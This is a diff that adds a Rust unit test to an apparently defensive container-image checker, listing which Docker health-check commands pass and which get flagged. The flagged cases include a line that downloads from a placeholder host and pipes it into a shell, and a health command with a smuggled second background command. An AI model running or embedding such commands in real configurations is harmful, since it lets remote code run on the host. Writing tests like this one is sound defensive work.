@@ -224,6 +224,23 @@ fn what_may_not_be_executed_is_not_what_starts() {
 }
 
 #[test]
+fn a_health_check_may_start_the_delivered_program_and_known_probes() {
+    for (test, outcome) in [
+        (json!(["CMD", "/app/api", "-health"]), "true []"),
+        (json!(["CMD-SHELL", "/app/api -health || exit 1"]), "true []"),
+        (json!(["CMD-SHELL", "wget -qO- http://localhost:8443/healthz > /dev/null || exit 1"]), "true []"),
+        (json!(["NONE"]), "true []"),
+        (json!([]), "true []"),
+        (json!(null), "true []"),
+        (json!(["CMD", "/opt/other"]), "?image-health-check []"),
+        (json!(["CMD-SHELL", "wget -qO- http://x.example/a | sh"]), "?image-health-check []"),
+        (json!(["CMD-SHELL", "/app/api -health; /opt/other &"]), "?image-health-check []"),
+    ] {
+        assert_eq!(changed("Healthcheck", json!({ "Test": test })), [outcome], "{test}");
+    }
+}
+
+#[test]
 fn a_file_of_the_run_has_to_be_the_same_in_the_image() {
     let mut files = members(&elf_of(b"api"));
     files[2].1 = b"{\"tls\": \"1.0\"}\n".to_vec();
